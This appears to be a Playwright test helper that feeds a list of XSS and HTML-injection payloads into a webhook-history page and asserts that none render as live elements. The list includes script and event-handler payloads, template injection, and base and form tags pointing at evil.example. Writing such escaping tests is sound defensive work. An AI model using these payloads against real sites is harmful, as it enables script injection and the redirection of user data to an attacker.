"""Text that would run as HTML or script if the page did not escape it."""

from playwright.sync_api import Page

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"'><iframe srcdoc='<script>alert(1)</script>'>",
    "</pre></template></style></textarea><body onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;img src=x onerror=alert(1)&gt;&#0;\u202egnp.exe",
    "<base href=//evil.example/><form action=//evil.example/><input autofocus onfocus=alert(1)>",
]
ALL = " ".join(CORPUS)
OURS = "webhook-history script, webhook-history iframe, webhook-history img, webhook-history svg, webhook-history a"


def expect_no_elements(page: Page) -> None:
    assert page.locator(OURS).count() == 0
    assert page.evaluate("document.querySelectorAll('base, iframe, img, svg').length") == 0
